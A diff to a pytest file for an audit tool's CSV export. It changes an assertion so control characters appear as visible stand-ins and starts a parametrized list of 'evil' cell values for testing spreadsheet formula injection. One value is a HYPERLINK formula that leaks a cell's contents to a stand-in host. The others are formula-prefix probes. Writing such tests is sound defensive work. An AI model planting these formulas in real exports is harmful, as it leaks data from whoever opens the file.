@@ -6,6 +6,7 @@ import json
 import pytest
 from lxml import etree
 
+from audit.core.display import char_display
 from audit.core.model import (
     AuditResult,
     Flag,
@@ -108,7 +109,9 @@ def test_csv_one_row_per_flag_with_exact_text():
     for row in rows:
         seg = next(s for s in res.segments if s.pair.id == row["segment_id"])
         side = row["side"]
-        assert unquote_cell(row["text"]) == seg.pair.text(side)[int(row["start"]):int(row["end"])]
+        exact = seg.pair.text(side)[int(row["start"]):int(row["end"])]
+        # control characters (ESC, BEL...) are written as visible stand-ins, nothing else changes
+        assert unquote_cell(row["text"]) == "".join(char_display(c) if c in "\x1b\x07\x08" else c for c in exact)
 
 
 @pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.test/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
